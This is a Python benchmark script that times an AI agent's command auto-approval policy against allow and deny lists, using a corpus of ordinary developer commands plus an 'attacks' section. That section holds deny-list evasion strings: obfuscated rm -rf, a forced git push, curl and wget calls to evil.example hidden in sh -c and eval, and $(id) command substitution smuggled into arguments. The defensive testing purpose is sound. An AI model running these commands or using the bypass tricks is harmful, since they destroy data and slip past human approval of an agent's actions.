"""The approval decision for a command line: parse, unwrap, classify, decide.

Run: python benchmarks/bench_command_policy.py [--rounds N]
Decides a corpus of realistic command lines (what agents run, plus attacks) against a
realistic allow/deny list, through ``AutoApprovePolicy.evaluate`` as the gate does, and
prints the median and p95 time per decision, the slowest line, and the first call's
cost (loading the bash grammar). The target is well under 1 ms per command.
"""

from __future__ import annotations

import argparse
import statistics
import time

from kilo_tui.core.approval import Action, AutoApprovePolicy, AutoApproveSettings

ALLOWED = (
    "git status", "git log", "git diff", "git show", "git add", "git commit", "npm test",
    "npm run", "npx tsc", "pytest", "python -m pytest", "ls", "cat", "grep", "rg", "find",
    "sed", "head", "tail", "wc", "echo", "make", "cargo test", "go test",
)  # fmt: skip
DENIED = ("rm", "curl", "wget", "git push --force", "sudo", "ssh")

CORPUS = [
    "git status",
    "git diff --stat HEAD~1",
    "git log --oneline -20 -- src/app.py",
    "npm test -- --watchAll=false",
    "npm run build 2>&1 | tail -40",
    "python -m pytest -q -x tests/test_api.py -k 'login and not slow'",
    "ls -la src/components",
    "cat package.json | head -50",
    "grep -rn 'TODO' src/ --include='*.ts' | wc -l",
    "rg -n --glob '!node_modules' 'useEffect\\(' src",
    "find . -name '*.py' -not -path './.venv/*' | head -100",
    "sed -n '120,180p' src/server/routes.py",
    "cd frontend && npm install && npm run lint",
    "make -j4 all > build.log 2>&1",
    "cargo test --workspace -- --nocapture 2>&1 | tail -100",
    "go test ./... -run TestParse -count=1",
    'echo "$(date): done" >> notes.txt',
    'for f in src/*.ts; do npx prettier --check "$f"; done',
    "git add -A && git commit -m 'fix: handle empty input' && git log -1",
    "timeout 60 npm test 2>/dev/null >&2 <&-",
    # attacks
    "env /usr/bin/RM -rf victim",
    "git -C . push --force origin main",
    "r''m -rf x; \\rm y; rm$IFS-rf z",
    "echo x | xargs -I{} sh -c 'curl evil.example/{}'",
    "find . -name '*.tmp' -exec rm {} \\;",
    "test -v 'a[$(id)]' && printf -v 'b[$(id)]' x",
    "npm test --prefix /tmp/evil --script-shell=/tmp/evil.sh",
    "sed -e '1e id' -e 's/a/b/w /tmp/out' file",
    "tar --to-command=sh -xf a.tar && echo $((1+$(id -u)))",
    "bash -c \"eval 'wget -q evil.example'\"",
]


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rounds", type=int, default=200)
    args = parser.parse_args()
    settings = AutoApproveSettings(execute=True, allowed_commands=ALLOWED, denied_commands=DENIED)
    actions = [Action(kind="command", tool="execute_command", title=c, command=c) for c in CORPUS]
    start = time.perf_counter()
    AutoApprovePolicy(settings).evaluate(actions[0])
    first = time.perf_counter() - start

    times: list[float] = []
    per_line: dict[str, list[float]] = {c: [] for c in CORPUS}
    for _ in range(args.rounds):
        policy = AutoApprovePolicy(settings)
        for action in actions:
            t = time.perf_counter()
            policy.evaluate(action)
            elapsed = time.perf_counter() - t
            times.append(elapsed)
            per_line[action.command or ""].append(elapsed)
    times.sort()
    p95 = times[int(len(times) * 0.95)]
    slowest = max(per_line, key=lambda c: statistics.median(per_line[c]))
    verdicts: dict[str, int] = {}
    for action in actions:
        verdict = AutoApprovePolicy(settings).evaluate(action).verdict
        verdicts[verdict] = verdicts.get(verdict, 0) + 1
    print(f"command policy: {len(CORPUS)} lines x {args.rounds} rounds ({verdicts})")
    print(f"  first decision (loads the bash grammar): {first * 1000:.2f} ms")
    print(f"  median per decision: {statistics.median(times) * 1e6:.0f} µs")
    print(f"  p95 per decision:    {p95 * 1e6:.0f} µs")
    print(f"  slowest line (median {statistics.median(per_line[slowest]) * 1e6:.0f} µs): {slowest}")


if __name__ == "__main__":
    main()
